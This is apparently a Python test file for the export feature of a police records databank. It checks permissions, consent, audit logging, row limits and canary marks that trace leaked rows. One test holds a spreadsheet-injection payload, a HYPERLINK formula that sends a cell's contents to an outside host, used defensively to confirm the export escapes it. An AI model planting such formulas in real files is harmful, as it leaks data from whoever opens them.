"""Taking records out: who may, what stays, what is kept of it, and how a leaked piece leads back to who took it."""

import csv
import io
import json
import random
from datetime import timedelta

import psycopg
import pytest
from django.utils import translation
from openpyxl import load_workbook

from commonweal.common.errors import BadInput, NotAllowed, NotNow
from commonweal.databanks import actions, exports, queries
from commonweal.databanks.exports import Choice
from commonweal.portal import exporting
from tests import factories

DESK = {"purpose": "own-records", "basis": "service duty", "case_ref": "", "standing_duty": "desk"}
H2, H3 = (factories.OPEN_LABEL | {"handling": code} for code in ("H2", "H3"))


def exporter(superuser, *officers: str) -> None:
    """Give these officers the role exporter."""
    superuser.execute("update members_officer set roles = roles || '{exporter}' where code = any(%s)", [list(officers)])


@pytest.fixture
def world(house, superuser, tmp_path):
    """Records of UZ under H1, H2 and H3, one that KZ may not see, one that KZ knows as a hit, a vehicle."""
    factories.cast(superuser)
    exporter(superuser, "UZ-3", "KZ-1")
    hidden = factories.OPEN_LABEL | {"scope": "agency"}
    hit = factories.OPEN_LABEL | {"full": [], "hit": ["KZ"]}
    lines = [
        factories.person("H1-REF", "Каримов", "Рустам", special={"health": ["diabetic"]}),
        factories.person("H2-REF", "Рахимов", "Далер", label=H2),
        factories.person("H3-REF", "Назаров", "Фарход", label=H3),
        factories.person("HIDDEN-REF", "Юсупов", "Анвар", label=hidden),
        factories.person("HIT-REF", "Саидов", "Карим", label=hit),
    ]
    factories.contribute(tmp_path, lines, name="first.jsonl")
    wanted = factories.notice("WANTED-REF", "Олимов", "Фирдавс")
    factories.contribute(tmp_path, [wanted], name="second.jsonl")
    return superuser


def ids(superuser) -> dict:
    return dict(superuser.execute("select owner_ref, record_id from databanks_identity").fetchall())


def desk(officer: str = "UZ-3") -> str:
    return factories.open_as(officer, "desk", **DESK)


def own(choice: Choice | None = None, **words: str) -> exports.Taken:
    return actions.export_own(desk(), choice or Choice(), **{"format": "csv", "reason": "monthly check"} | words)


def refs(taken: exports.Taken) -> list[str]:
    return [each.owner_ref for each in taken.records]


def written(taken: exports.Taken) -> bytes:
    held = io.BytesIO()
    with translation.override("en"):
        exporting.write(held, taken)
    return held.getvalue()


def test_own_records_are_chosen_by_type_bank_and_contribution(world):
    batch = world.execute("select id from databanks_batch where file_name = 'second.jsonl'").fetchone()[0]

    assert refs(own()) == ["H1-REF", "H2-REF", "H3-REF", "HIDDEN-REF", "HIT-REF", "WANTED-REF"]
    assert refs(own(Choice(type="wanted-notice"))) == ["WANTED-REF"]
    assert refs(own(Choice(batch=batch))) == ["WANTED-REF"]
    assert refs(own(Choice(type="person", bank="united"))) == ["H1-REF", "H2-REF", "H3-REF", "HIDDEN-REF", "HIT-REF"]
    with pytest.raises(BadInput, match=r"databanks\.export\.nothing"):
        own(Choice(type="person", batch=batch))


def test_what_a_search_found_leaves_without_hits_hidden_rows_and_closed_codes(world):
    known = ids(world)
    taken = actions.export_found(factories.open_as("KZ-1"), list(known.values()), format="json", reason="case")

    assert refs(taken) == ["H1-REF", "WANTED-REF"]
    # Counted are the two that KZ reads and may not take out, neither the hidden one nor the hit.
    assert (taken.export.rows, taken.export.left_out) == (2, 2)
    text = written(taken).decode()
    assert not any(word in text for word in ("HIDDEN-REF", "HIT-REF", "H2-REF", "H3-REF", "Юсупов", "Саидов"))


def test_consent_of_the_owner_lets_a_closed_row_leave(world):
    known = ids(world)
    until = world.execute("select now() + interval '1 hour'").fetchone()[0]
    approver = factories.open_as("UZ-2", "approver", "contribution")
    words = {"agency": "KZ-MIA", "party": "KZ", "level": 4, "until": until, "because": "asked"}
    actions.consent(known["H2-REF"], approver, **words)

    taken = actions.export_found(factories.open_as("KZ-1"), list(known.values()), format="csv", reason="case")

    assert (refs(taken), taken.export.left_out) == (["H1-REF", "H2-REF", "WANTED-REF"], 1)


def test_special_categories_never_go_into_a_table(world):
    for format in exports.FORMATS:
        assert b"diabetic" not in written(own(format=format))


@pytest.mark.parametrize(
    ("officer", "role", "words"), [("UZ-1", "desk", DESK), ("UZ-3", "approver", {}), ("UZ-3", "contributor", {})]
)
def test_taking_out_needs_the_role_exporter_at_a_desk_or_under_a_purpose(world, officer, role, words):
    with pytest.raises(NotAllowed, match=r"databanks\.export\.not-exporter"):
        actions.export_own(factories.open_as(officer, role, **words), Choice(), format="csv", reason="x")


def test_nobody_notes_an_export_in_anothers_name_or_without_the_role(world, house):
    columns = f"insert into databanks_export ({exports.COLUMNS}) values"
    row = (
        "(gen_random_uuid(), 'E-2222-2222', 'K-2222-2222-2222', 'UZ', 'UZ-MIA', '{officer}', 'own', 'csv', 1, 0, 0,"
        " 'H0', '', '', '', 'x', '', now())"
    )
    with house.connect() as app:
        for token, officer in ((desk("UZ-3"), "UZ-1"), (desk("UZ-1"), "UZ-1"), (desk("KZ-1"), "KZ-1")):
            app.execute("select set_config('commonweal.token', %s, true)", [token])
            with pytest.raises(psycopg.errors.InsufficientPrivilege):
                app.execute(columns + row.format(officer=officer))
            app.rollback()


@pytest.mark.parametrize(("format", "reason", "code"), [("csv", " ", "no-reason"), ("pdf", "x", "format")])
def test_reason_and_format_are_asked_for(world, format, reason, code):
    with pytest.raises(BadInput, match=rf"databanks\.export\.{code}"):
        own(format=format, reason=reason)


def test_1001_rows_are_refused_and_1000_are_not(world, tmp_path):
    lines = [factories.person(f"MANY-{number:04}", "Каримов", "Рустам") for number in range(995)]
    factories.contribute(tmp_path, lines, name="many.jsonl")
    with pytest.raises(BadInput, match=r"databanks\.export\.too-many"):
        own()
    assert world.execute("select count(*) from databanks_export").fetchone() == (0,)
    assert own(Choice(type="person")).export.rows == 1000


def test_days_rows_of_an_officer_are_limited(world, clock, monkeypatch):
    monkeypatch.setattr("commonweal.databanks.actions.export.DAILY", 8)
    own()
    with pytest.raises(NotNow, match=r"2 are left to you now"):
        own()
    assert actions.print_record(desk(), ids(world)["H1-REF"]).export.rows == 1
    clock.forward(timedelta(hours=25))
    assert own().export.rows == 6


def test_every_row_leaves_its_touch_and_the_reason_is_journalled(world):
    known = ids(world)
    taken = actions.export_found(factories.open_as("KZ-1"), list(known.values()), format="csv", reason="the case")

    touched = queries.touches(desk())
    assert {(each.owner_ref, each.action, each.officer, each.receipt) for each in touched} == {
        (ref, "databanks.records.exported", "KZ-1", taken.export.receipt) for ref in ("H1-REF", "WANTED-REF")
    }
    (entry,) = world.execute(
        "select entry::json -> 'facts' from audit_entry where entry::json ->> 'verb' = 'databanks.records.exported'"
    ).fetchall()
    assert (entry[0]["reason"], entry[0]["rows"], entry[0]["code"]) == ("the case", 2, taken.export.code)


def test_agency_reads_what_it_took_out_and_nobody_else_does(world, house):
    own()
    seen = {officer: [each.rows for each in exports.exports(desk(officer))] for officer in ("UZ-1", "UZ-3", "KZ-1")}
    assert seen == {"UZ-1": [6], "UZ-3": [6], "KZ-1": []}
    with house.connect() as app:
        assert app.execute("select count(*) from databanks_export").fetchone() == (0,)


def test_print_is_noted_and_touched_and_a_closed_code_stays_on_the_screen(world):
    known = ids(world)
    reader = factories.open_as("KZ-1")
    taken = actions.print_record(reader, known["H2-REF"])

    assert (taken.export.kind, taken.export.rows, taken.export.handling) == ("print", 1, "H2")
    assert [each.action for each in queries.touches(desk())] == ["databanks.record.printed"]
    with pytest.raises(NotAllowed, match=r"databanks\.export\.needs-consent"):
        actions.print_record(reader, known["H3-REF"])
    assert actions.print_record(desk(), known["H3-REF"]).export.handling == "H3"
    assert [actions.print_record(reader, known[ref]) for ref in ("HIDDEN-REF", "HIT-REF")] == [None, None]


# --- files ---------------------------------------------------------------------------------------------------------


def test_csv_carries_code_and_mark_on_every_row_and_conditions_in_its_head(world):
    taken = own()
    rows = list(csv.reader(io.StringIO(written(taken).decode("utf-8-sig"), newline="")))
    heading = next(number for number, row in enumerate(rows) if row[0] == "Handling")

    assert rows[0] == ["FOR OFFICIAL USE"]
    assert [row[0][:3] for row in rows[1:4]] == ["H1:", "H2:", "H3:"]
    assert taken.export.code in rows[4][0]
    assert taken.export.canary in rows[4][0]
    assert "monthly check" in rows[5][0]
    body = rows[heading + 1 : -1]
    assert [(row[0], row[2], row[6]) for row in body] == [
        (each.handling, taken.export.canary, each.owner_ref) for each in taken.records
    ]
    assert taken.export.canary in rows[-1][0]


def test_workbook_has_a_sheet_for_each_type_with_the_same_marks(world):
    taken = own(format="xlsx")
    book = load_workbook(io.BytesIO(written(taken)))

    assert book.sheetnames == ["Person", "Wanted notice"]
    assert taken.export.canary in book.properties.keywords
    for sheet in book:
        rows = list(sheet.iter_rows(values_only=True))
        heading = next(number for number, row in enumerate(rows) if row[0] == "Handling")
        assert {row[2] for row in rows[heading + 1 : -1]} == {taken.export.canary}
        assert taken.export.canary in sheet.oddFooter.center.text


def test_json_gives_every_record_its_code_and_mark(world):
    taken = own(format="json")
    told = json.loads(written(taken))

    assert {(each["handling"], each["mark"]) for each in told["records"]} == {
        (code, taken.export.canary) for code in ("H1", "H2", "H3")
    }
    assert told["conditions"].keys() == {"H1", "H2", "H3"}
    assert told["export"]["reason"] == "monthly check"


@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_word_that_would_be_a_formula_stays_a_text(world, tmp_path, format):
    evil = '=HYPERLINK("http://example.org?x="&A1)'
    factories.contribute(tmp_path, [factories.person("EVIL", evil, "+1")], name="evil.jsonl")
    content = written(own(format=format))

    if format == "csv":
        cells = [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for cell in row]
        assert not any(cell[:1] in "=+-@" for cell in cells if cell)
    else:
        cells = [cell for sheet in load_workbook(io.BytesIO(content)) for row in sheet for cell in row]
        assert "f" not in {cell.data_type for cell in cells}
    assert evil in str([getattr(cell, "value", cell) for cell in cells])


# --- tracing -------------------------------------------------------------------------------------------------------


def test_one_row_of_a_leaked_file_leads_back_to_its_export(world, as_role, monkeypatch):
    """A hundred exports; of each one row, torn out at random, retyped in small letters with other dashes."""
    monkeypatch.setattr("commonweal.databanks.actions.export.DAILY", 1_000_000)
    dice, leaked = random.Random(7), []
    for _ in range(100):
        taken = own(Choice(type="person"))
        rows = list(csv.reader(io.StringIO(written(taken).decode("utf-8-sig"), newline="")))
        body = [row for row in rows if row[0] in ("H1", "H2", "H3")]
        leaked.append((taken.export.code, ";".join(dice.choice(body)).lower().replace("-", "–")))

    found = [[row[0] for row in _traced(as_role, exports.marks_in(piece))] for _, piece in leaked]

    assert found == [[code] for code, _ in leaked]


def _traced(as_role, marks: list[str]) -> list[tuple]:
    with as_role("cw_clock") as operator:
        return operator.execute("select code from databanks_export where canary = any(%s)", [marks]).fetchall()


@pytest.mark.parametrize(
    ("text", "marks"),
    [
        ("see E-7Q2M-41KD", []),  # 1 is no sign of ours
        ("see e-7q2m-4wkd, K–GAPW–TWBK–MAGU.", ["E-7Q2M-4WKD", "K-GAPW-TWBK-MAGU"]),
        ("K GAPW TWBK MAGU", ["K-GAPW-TWBK-MAGU"]),
        ("K-GAPW-TWBK", []),
        ("E-7Q2M-4WKD E-7Q2M-4WKD", ["E-7Q2M-4WKD"]),
        ("", []),
    ],
)
def test_marks_are_found_however_they_were_typed(text, marks):
    assert exports.marks_in(text) == marks
